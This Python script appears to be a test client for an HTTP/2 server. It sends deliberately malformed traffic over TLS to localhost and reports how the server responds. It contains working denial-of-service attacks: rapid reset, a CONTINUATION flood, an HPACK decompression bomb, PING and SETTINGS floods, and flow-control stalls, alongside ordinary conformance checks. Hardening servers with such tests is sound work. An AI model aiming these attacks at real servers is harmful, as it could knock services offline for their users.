"""HTTP/2 clients that misbehave on purpose, and one that behaves, each writing its frames with
the h2 project's own hyperframe and hpack, over TLS with ALPN h2.

    attacks.py --port P CASE [--n N]

One JSON object on stdout: what the server did. Every case is bounded in frames and in time
(TIMEOUT per wait, DEADLINE in all): a server that neither answers nor closes is reported as
such, never waited for.

Cases:
  rapid_reset     open a stream and reset it at once, N times (CVE-2023-44487)
  continuation    one HEADERS without END_HEADERS, then N tiny CONTINUATION frames
                  (CVE-2024-27316)
  hpack_bomb      a 4000-byte field put into the HPACK table once, then referenced by one byte
                  each, thousands of times: a header list of megabytes from a few kilobytes
  big_head        a request whose fields add up to more than max_head_bytes (20 KB), under
                  h2's own limit
  ping_flood      N PINGs in a row (reading the answers)
  settings_flood  N SETTINGS in a row (reading the acks)
  streams         N requests for /delay/1500 at once on one connection, ignoring the server's
                  SETTINGS_MAX_CONCURRENT_STREAMS
  zero_window     SETTINGS_INITIAL_WINDOW_SIZE 0, a request for a response body, and never a
                  WINDOW_UPDATE
  expect          a POST with `expect: 100-continue`: its body only once the 100 came (or
                  TIMEOUT passed), then the final response
  cookies         a GET with the cookie split into three `cookie` fields and a Host equal to
                  :authority; then one whose Host differs from :authority
  idle            nothing after the preface (N = 0), or after one request answered (N = 1):
                  how long until the server's GOAWAY, and whether it then closes
  no_read         windows opened wide, 100 requests for 60 KiB each, and not a byte read for
                  N seconds (the caller watches the server meanwhile)
"""

import argparse
import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

TIMEOUT = 5
DEADLINE = 30
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB
REFUSED_STREAM = 0x7
CANCEL = 0x8


class Conn:
    def __init__(self, port, settings=None, rcvbuf=None):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.settimeout(TIMEOUT)
        raw.connect(("127.0.0.1", port))
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2", self.sock.selected_alpn_protocol()
        self.buf = b""
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.port = port
        self.start = time.monotonic()
        s = SettingsFrame(0)
        for k, v in (settings or {}).items():
            s.settings[k] = v
        self.send(PREFACE + s.serialize())

    def send(self, data):
        self.sock.sendall(data)

    def headers(self, stream_id, path="/", end_stream=True, extra=(), authority=None):
        fields = [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", authority or f"localhost:{self.port}"),
            (":path", path),
        ] + list(extra)
        f = HeadersFrame(stream_id)
        f.data = self.enc.encode(fields)
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f.serialize()

    def frame(self):
        """The next frame, or None at end of stream; raises socket.timeout."""
        while True:
            if len(self.buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) >= 9 + length:
                    f.parse_body(memoryview(self.buf[9 : 9 + length]))
                    self.buf = self.buf[9 + length :]
                    if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                        self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                    # Every header block, in order: HPACK's table depends on all of them.
                    f.fields = None
                    if isinstance(f, HeadersFrame):
                        f.fields = dict(self.dec.decode(f.data))
                    return f
            if time.monotonic() - self.start > DEADLINE:
                raise socket.timeout("deadline")
            try:
                chunk = self.sock.recv(65536)
            except (ConnectionResetError, ssl.SSLError):
                return None
            if not chunk:
                return None
            self.buf += chunk

    def until(self, want):
        """Reads frames until `want(frame)` is true: (frame, every frame read); frame is None at
        end of stream or after TIMEOUT without one."""
        seen = []
        while True:
            try:
                f = self.frame()
            except OSError:  # a timeout, or the TLS session broken by the server's close
                return None, seen
            if f is None:
                return None, seen
            seen.append(f)
            if want(f):
                return f, seen


def goaway(f):
    return isinstance(f, GoAwayFrame)


def outcome(conn, f, seen, **extra):
    out = dict(extra)
    out["goaway"] = f.error_code if isinstance(f, GoAwayFrame) else None
    out["closed"] = f is None
    out["frames"] = len(seen)
    return out


def status_of(conn, frames, stream_id):
    for f in frames:
        if isinstance(f, HeadersFrame) and f.stream_id == stream_id:
            return int(f.fields[":status"])
    return None


def rapid_reset(port, n):
    c = Conn(port)
    sent = 0
    for i in range(n):
        sid = 1 + 2 * i
        try:
            c.send(c.headers(sid, "/delay/50") + RstStreamFrame(sid, error_code=CANCEL).serialize())
        except OSError:
            break
        sent += 1
    f, seen = c.until(goaway)
    return outcome(c, f, seen, sent=sent)


def continuation(port, n):
    c = Conn(port)
    block = c.enc.encode([(":method", "GET"), (":scheme", "https"),
                          (":authority", "localhost"), (":path", "/")])
    h = HeadersFrame(1)
    h.data = block
    c.send(h.serialize())
    sent = 0
    # Each fragment a literal field "x-a: a", never indexed: 1 + 1 + 3 + 1 + 1 bytes.
    fragment = b"\x00\x03x-a\x01a"
    for _ in range(n):
        f = ContinuationFrame(1)
        f.data = fragment
        try:
            c.send(f.serialize())
        except OSError:
            break
        sent += 1
    f, seen = c.until(goaway)
    return outcome(c, f, seen, sent=sent)


def hpack_bomb(port, n):
    c = Conn(port)
    # Literal with incremental indexing, new name: the field enters the dynamic table (62).
    value = b"v" * 4000
    name = b"x-bomb"
    block = c.enc.encode([(":method", "GET"), (":scheme", "https"),
                          (":authority", "localhost"), (":path", "/")])
    block += b"\x40" + bytes([len(name)]) + name + b"\x7f" + hpack_int(len(value), 7) + value
    # Indexed field 62, one byte each.
    block += b"\xbe" * n
    h = HeadersFrame(1)
    h.data = block
    h.flags.add("END_HEADERS")
    h.flags.add("END_STREAM")
    c.send(h.serialize())
    f, seen = c.until(lambda f: goaway(f) or (isinstance(f, HeadersFrame) and f.stream_id == 1))
    return outcome(c, f, seen, status=status_of(c, seen, 1), decoded=4000 * (n + 1))


def hpack_int(n, prefix):
    """The continuation bytes of an HPACK integer whose prefix (all ones) was already written."""
    n -= (1 << prefix) - 1
    out = bytearray()
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def big_head(port, n):
    c = Conn(port)
    extra = [(f"x-big-{i}", "b" * 1000) for i in range(20)]
    c.send(c.headers(1, "/big", extra=extra))
    f, seen = c.until(lambda f: goaway(f) or (isinstance(f, HeadersFrame) and f.stream_id == 1))
    # The connection still serves.
    c.send(c.headers(3, "/after"))
    g, more = c.until(lambda f: goaway(f) or (isinstance(f, HeadersFrame) and f.stream_id == 3))
    return outcome(c, f, seen, status=status_of(c, seen, 1), after=status_of(c, more, 3))


def flood(port, n, make):
    c = Conn(port)
    sent = 0
    for i in range(n):
        try:
            c.send(make(i))
        except OSError:
            break
        sent += 1
        # Read what came back now and then, as a client that keeps up does.
        if i % 50 == 49:
            c.sock.setblocking(False)
            try:
                while True:
                    chunk = c.sock.recv(65536)
                    if not chunk:
                        break
                    c.buf += chunk
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                break
            finally:
                c.sock.setblocking(True)
                c.sock.settimeout(TIMEOUT)
    f, seen = c.until(goaway)
    return outcome(c, f, seen, sent=sent)


def ping_flood(port, n):
    return flood(port, n, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())


def settings_flood(port, n):
    return flood(port, n, lambda i: SettingsFrame(0, settings={0x3: 100 + i % 2}).serialize())


def streams(port, n):
    c = Conn(port)
    for i in range(n):
        c.send(c.headers(1 + 2 * i, "/delay/1500"))
    refused = 0
    done = 0
    t0 = time.monotonic()
    while done + refused < n and time.monotonic() - t0 < DEADLINE:
        f, _ = c.until(lambda f: isinstance(f, (RstStreamFrame, DataFrame, GoAwayFrame)))
        if f is None or isinstance(f, GoAwayFrame):
            break
        if isinstance(f, RstStreamFrame):
            refused += f.error_code == REFUSED_STREAM
        elif "END_STREAM" in f.flags:
            done += 1
    return {"refused": refused, "done": done}


def zero_window(port, n):
    c = Conn(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    t0 = time.monotonic()
    c.send(c.headers(1, "/chunks/3/0"))
    f, seen = c.until(lambda f: goaway(f) or isinstance(f, RstStreamFrame))
    took = time.monotonic() - t0
    data = sum(len(x.data) for x in seen if isinstance(x, DataFrame))
    # The connection still serves a client that reads.
    c.send(WindowUpdateFrame(0, window_increment=1 << 20).serialize())
    c.send(c.headers(3, "/after"))
    c.send(WindowUpdateFrame(3, window_increment=1 << 20).serialize())
    g, more = c.until(lambda f: isinstance(f, HeadersFrame) and f.stream_id == 3)
    return {
        "reset": f.error_code if isinstance(f, RstStreamFrame) else None,
        "seconds": round(took, 2),
        "data": data,
        "after": status_of(c, more, 3),
    }


def expect(port, n):
    c = Conn(port)
    h = HeadersFrame(1)
    h.data = c.enc.encode([
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", f"localhost:{port}"),
        (":path", "/upload"),
        ("content-length", "5"),
        ("expect", "100-continue"),
    ])
    h.flags.add("END_HEADERS")
    c.send(h.serialize())
    t0 = time.monotonic()
    first, _ = c.until(lambda f: isinstance(f, HeadersFrame) and f.stream_id == 1)
    waited = time.monotonic() - t0
    c.send(DataFrame(1, data=b"hello", flags=["END_STREAM"]).serialize())
    body = b""
    f, seen = c.until(lambda f: isinstance(f, DataFrame) and f.stream_id == 1
                      and "END_STREAM" in f.flags)
    for x in seen:
        if isinstance(x, DataFrame) and x.stream_id == 1:
            body += x.data
    return {
        "first": int(first.fields[":status"]) if first is not None else None,
        "waited": round(waited, 2),
        "status": status_of(c, seen, 1),
        "body": body.decode(errors="replace"),
    }


def cookies(port, n):
    c = Conn(port)
    cookie = [("cookie", "a=1"), ("cookie", "b=2"), ("cookie", "c=3"),
              ("host", f"LOCALHOST:{port}")]
    c.send(c.headers(1, "/cookies", extra=cookie))
    body = b""
    f, seen = c.until(lambda f: isinstance(f, DataFrame) and f.stream_id == 1
                      and "END_STREAM" in f.flags)
    for x in seen:
        if isinstance(x, DataFrame) and x.stream_id == 1:
            body += x.data
    c.send(c.headers(3, "/mismatch", extra=[("host", "other.example")]))
    g, more = c.until(lambda f: isinstance(f, HeadersFrame) and f.stream_id == 3)
    return {
        "status": status_of(c, seen, 1),
        "body": body.decode(errors="replace"),
        "mismatch": status_of(c, more, 3),
    }


def websocket(port, n):
    """A WebSocket handshake over HTTP/2: RFC 6455's fields are connection-specific there, and
    RFC 8441's extended CONNECT is not offered."""
    c = Conn(port)
    ws = [("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="), ("sec-websocket-version", "13")]
    c.send(c.headers(1, "/ws", extra=[("connection", "upgrade"), ("upgrade", "websocket")] + ws))
    f, seen = c.until(lambda f: f.stream_id == 1 and isinstance(f, (RstStreamFrame, HeadersFrame)))
    settings = {}
    for x in seen:
        if isinstance(x, SettingsFrame) and "ACK" not in x.flags:
            settings.update(x.settings)
    connect = HeadersFrame(3)
    connect.data = c.enc.encode([
        (":method", "CONNECT"),
        (":protocol", "websocket"),
        (":scheme", "https"),
        (":authority", f"localhost:{port}"),
        (":path", "/ws"),
    ] + ws)
    connect.flags.add("END_HEADERS")
    c.send(connect.serialize())
    g, _ = c.until(lambda f: f.stream_id == 3 and isinstance(f, (RstStreamFrame, HeadersFrame)))
    # The same handshake without the fields HTTP/2 forbids: an ordinary request.
    c.send(c.headers(5, "/ws", extra=ws))
    body = b""
    h, more = c.until(lambda f: isinstance(f, DataFrame) and f.stream_id == 5
                      and "END_STREAM" in f.flags)
    for x in more:
        if isinstance(x, DataFrame) and x.stream_id == 5:
            body += x.data
    return {
        "upgrade_reset": f.error_code if isinstance(f, RstStreamFrame) else None,
        "connect_protocol_setting": settings.get(SettingsFrame.ENABLE_CONNECT_PROTOCOL),
        "connect_reset": g.error_code if isinstance(g, RstStreamFrame) else None,
        "connect_status": status_of(c, [g] if g is not None else [], 3),
        "plain_status": status_of(c, more, 5),
        "plain_body": body.decode(errors="replace"),
    }


def idle(port, n):
    c = Conn(port)
    if n:
        c.send(c.headers(1, "/first"))
        f, seen = c.until(lambda f: f.stream_id == 1 and "END_STREAM" in f.flags)
        if f is None:
            return {"error": "the request was not answered", "frames": len(seen)}
    t0 = time.monotonic()
    f, seen = c.until(goaway)
    took = time.monotonic() - t0
    # Then the close, without an answer to the server's PINGs: a silent client must not keep
    # the connection open. A read that times out means it is still open.
    closed = False
    try:
        while c.frame() is not None:
            pass
        closed = True
    except OSError:
        pass
    return {
        "goaway": f.error_code if goaway(f) else None,
        "seconds": round(took, 2),
        "closed": closed,
        "close_seconds": round(time.monotonic() - t0 - took, 2),
    }


def no_read(port, n):
    c = Conn(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1}, rcvbuf=4096)
    c.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535).serialize())
    for i in range(100):
        c.send(c.headers(1 + 2 * i, "/large/0/61440"))
    time.sleep(n)
    return {"sent": 100}


CASES = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "hpack_bomb": hpack_bomb,
    "big_head": big_head,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "streams": streams,
    "zero_window": zero_window,
    "expect": expect,
    "cookies": cookies,
    "websocket": websocket,
    "idle": idle,
    "no_read": no_read,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--n", type=int, default=1000)
    p.add_argument("case", choices=sorted(CASES))
    a = p.parse_args()
    try:
        out = CASES[a.case](a.port, a.n)
    except Exception as e:  # reported, so the test shows what broke
        out = {"error": f"{type(e).__name__}: {e}"}
    print(json.dumps(out))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
